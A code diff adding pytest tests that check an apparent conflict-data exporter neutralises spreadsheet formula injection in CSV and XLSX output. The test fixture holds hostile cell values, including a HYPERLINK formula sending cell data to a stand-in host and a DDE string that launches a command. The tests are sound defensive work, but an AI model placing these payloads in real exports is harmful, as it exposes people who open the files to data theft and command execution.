@@ -647,3 +647,32 @@ def test_every_outlet_of_the_news_subset_is_known(shared):
             by_key = outlet({"outlet": record["source"], "url": None})
             by_url = outlet({"outlet": None, "url": record["url"]})
             assert by_key == by_url and by_key.scale != "Other", key
+
+
+# ------------------------------------------------------------------ hostile cell values
+
+HOSTILE = {**EVENTS[0], "event_id": "RSD-00000000F0",
+           "actors": [{"id": "x", "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "name_ar": "@SUM(1+1)",
+                       "inter": 2}, IS],
+           "location": loc("+cmd|' /C calc'!A0", "-2+3", "SY", "\tAl-Hasakeh", -36.4839, -40.7472),
+           "sources": [{**SOURCE_AAWSAT, "outlet": "=1+2", "title": "\r=cmd"}]}
+
+
+@pytest.mark.parametrize("fmt", ["acled-csv", "ucdp-csv", "hxl-csv"])
+def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(fmt):
+    rows = csv_rows(export(fmt, [HOSTILE])[1])
+    cells = [c for r in rows[1:] for c in r]
+    assert cells, fmt
+    for c in cells:
+        assert not c.startswith(("=", "+", "@", "\t", "\r")), (fmt, c)
+        assert not c.startswith("-") or float(c) < 0, (fmt, c)
+    assert any(c.startswith("'=HYPERLINK(") or c.startswith("'=1+2") for c in cells), "kept, as text"
+    if fmt != "ucdp-csv":
+        assert "-36.4839" in cells and "-40.7472" in cells, "negative coordinates stay numbers"
+
+
+def test_no_xlsx_string_starts_a_formula():
+    rows = xlsx_rows(export("xlsx", [HOSTILE])[1])
+    strings = [v for v in rows[1] if isinstance(v, str)]
+    assert strings and not [v for v in strings if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert -36.4839 in rows[1], "numbers are numbers"
